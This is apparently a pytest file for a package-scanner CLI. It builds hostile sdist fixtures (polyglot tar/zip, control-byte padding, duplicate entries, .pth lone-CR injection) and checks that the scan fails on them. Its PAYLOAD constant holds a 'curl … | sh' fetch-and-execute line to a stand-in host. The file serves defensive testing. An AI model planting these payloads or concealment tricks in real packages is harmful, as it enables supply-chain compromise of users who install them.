"""``vetbench scan --fail-on high`` exits 1 on every hostile artifact class, and errors never
lower the exit code nor drop the other artifacts' results."""

from __future__ import annotations

import json

import pytest

from app.cli import main
from app.workflows import scanning
from tests.core.archive.fixtures import compress, make_sdist, pkg_info, tar_bytes, zip_bytes

PAYLOAD = b"import os\nos.system('curl http://192.0.2.1/x | sh')\n"
CLEAN_SETUP = b"from setuptools import setup\nsetup(name='demo')\n"


def _polyglot(tmp_path):
    clean = tar_bytes([("demo-1.0/setup.py", CLEAN_SETUP)])
    evil = zip_bytes({"demo-1.0/setup.py": PAYLOAD + CLEAN_SETUP})
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(compress(clean, "gz") + evil)
    return path


def _control_bytes(tmp_path):
    return make_sdist(tmp_path, files={"setup.py": PAYLOAD + b"#" + b"\x0c" * 400 + b"\n"})


def _truncated(tmp_path):
    raw = tar_bytes(
        [
            ("demo-1.0/PKG-INFO", pkg_info("demo", "1.0").encode()),
            ("demo-1.0/setup.py", CLEAN_SETUP + b"#" * 3000 + b"\n"),
        ]
    )
    path = tmp_path / "demo-1.0.tar"
    path.write_bytes(raw[: 512 * 4 + 700])
    return path


def _duplicate(tmp_path):
    entries = [("demo-1.0/setup.py", CLEAN_SETUP), ("demo-1.0/setup.py", PAYLOAD)]
    path = tmp_path / "demo-1.0.tar.gz"
    path.write_bytes(compress(tar_bytes(entries), "gz"))
    return path


def _unparsable_setup(tmp_path):
    return make_sdist(tmp_path, files={"setup.py": b"type X = int\nmatch(\n"})


def _pth_lone_cr(tmp_path):
    pth = b"./vendor\rimport os; os.system('curl http://192.0.2.1/x | sh')\r"
    return make_sdist(tmp_path, files={"demo.pth": pth})


@pytest.mark.parametrize(
    "build",
    [_polyglot, _control_bytes, _truncated, _duplicate, _unparsable_setup, _pth_lone_cr],
)
def test_fail_on_high_exits_1_on_hostile_artifacts(tmp_path, capsys, build):
    code = main(["scan", str(build(tmp_path)), "--fail-on", "high", "--no-cache", "--json"])
    doc = json.loads(capsys.readouterr().out)
    assert code == 1, doc["risk"]
    assert doc["risk"]["level"] in ("high", "critical")


def test_clean_artifact_does_not_reach_fail_on(tmp_path, capsys):
    code = main(["scan", str(make_sdist(tmp_path)), "--fail-on", "high", "--no-cache"])
    capsys.readouterr()
    assert code == 0


def test_unreadable_artifact_among_several_fails_closed(tmp_path, capsys):
    good = make_sdist(tmp_path)
    bad = tmp_path / "junk.tar.gz"
    bad.write_bytes(b"\x1f\x8b" + b"\xff" * 100)
    code = main(["scan", str(good), str(bad), "--fail-on", "high", "--no-cache", "--json"])
    docs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert code == 1
    assert [bool(d["errors"]) for d in docs] == [False, True]
    assert docs[0]["risk"]["level"] == "none"


def test_a_crash_in_one_artifact_never_drops_the_others(tmp_path, capsys, monkeypatch):
    first, second = make_sdist(tmp_path, name="a"), make_sdist(tmp_path, name="b")
    real = scanning._scan_opened

    def crash_on_a(artifact, *args):
        if artifact.name == "a":
            raise RecursionError("maximum recursion depth exceeded")
        return real(artifact, *args)

    monkeypatch.setattr(scanning, "_scan_opened", crash_on_a)
    code = main(
        [
            "scan",
            str(first),
            str(second),
            "--jobs",
            "1",
            "--no-cache",
            "--json",
            "--fail-on",
            "high",
        ]
    )
    docs = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert len(docs) == 2
    assert "RecursionError" in docs[0]["errors"][0]
    assert docs[1]["target"]["name"] == "b" and not docs[1]["errors"]
    assert code == 1
